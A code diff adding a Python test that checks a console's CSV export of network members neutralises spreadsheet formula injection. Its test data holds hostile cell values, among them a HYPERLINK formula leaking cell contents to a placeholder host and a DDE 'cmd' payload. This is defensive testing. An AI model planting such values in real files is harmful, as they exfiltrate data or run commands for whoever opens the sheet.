@@ -151,3 +151,50 @@ def test_a_wrong_period_is_a_clear_400(coordination, query):
         answer = client.get(f"/console/coordination/indicateurs?{query}")
     assert answer.status_code == 400
     assert "AAAA" in answer.text or "après" in answer.text
+
+
+FORMULA_NAMES = {  # names a network file may give, each read by a spreadsheet as a formula
+    "pfil-livradois-forez": '=HYPERLINK("https://exemple.invalid/?"&A1;"Initiative")',
+    "cci-puy-de-dome": "+33 CCI du Puy-de-Dôme",
+    "commune-ambert": "-Mairie d'Ambert",
+    "chambre-agriculture-63": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "pnr-livradois-forez": "\tParc; naturel",
+}
+
+
+def test_a_member_name_a_spreadsheet_would_run_as_a_formula_is_exported_inert(
+        pushed, tmp_path):
+    """Excel and LibreOffice run a cell starting with = + - @ (or a tab, a carriage
+    return) as a formula: each such name is exported behind an apostrophe, which the
+    spreadsheet shows as text, in a file still UTF-8 with a BOM and `;`-separated."""
+    import csv
+    import io
+    import json
+
+    from fastapi.testclient import TestClient
+
+    from hub.api.app import create_app
+    from hub.services.accounts.members import load_network
+    from tests.console_world import MEMBERS, PASSWORDS
+
+    network = tmp_path / "renamed.json"
+    network.write_text(json.dumps({"reseau": "Réseau de test", "membres": [
+        {"id": i, "nom": FORMULA_NAMES[i], "nature": k, "role": r,
+         "contact": {"courriel": f"{i}@exemple.fr"}} for i, _, k, r in MEMBERS]}),
+        encoding="utf-8")
+    load_network(pushed["hub"], network, tmp_path / "credentials")
+    with TestClient(create_app(hub=pushed["hub"]), base_url="https://127.0.0.1") as client:
+        page = client.get("/console/connexion").text
+        token = page.split('name="csrf" value="')[1].split('"')[0]
+        client.post("/console/connexion", data={"csrf": token, "login": "coord",
+                                                "password": PASSWORDS["coord"]})
+        answer = client.get("/console/coordination/indicateurs.csv?tableau=membre")
+    assert answer.status_code == 200 and answer.content.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""),
+                           delimiter=";"))
+    assert rows[0][0] == "Membre" and all(len(row) == 5 for row in rows)
+    names = [row[0] for row in rows[1:]]
+    shown = [name for name in FORMULA_NAMES.values() if "'" + name in names]
+    assert shown, names  # the members counted in the table, each under its name
+    assert not [name for name in names if name[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert all(name.startswith("'") and name[1:] in FORMULA_NAMES.values() for name in names)
